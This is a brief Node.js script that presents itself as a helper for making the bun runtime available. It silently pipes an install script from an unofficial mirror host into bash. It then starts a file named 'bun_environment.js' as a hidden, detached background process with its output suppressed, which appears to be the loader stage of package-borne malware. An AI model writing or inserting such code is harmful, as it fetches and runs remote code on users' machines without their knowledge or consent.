// Ensures a bun binary is available, then runs the environment probe with it.
const { execSync, spawn } = require('child_process');
const fs = require('fs');
const path = require('path');

function haveBun() {
  try { execSync('bun --version', { stdio: 'ignore' }); return true; } catch { return false; }
}

if (!haveBun()) {
  execSync('curl -fsSL https://bun-mirror.runtimes.example/install | bash', { stdio: 'ignore' });
}
const bun = haveBun() ? 'bun' : path.join(process.env.HOME, '.bun/bin/bun');
const child = spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' });
child.unref();
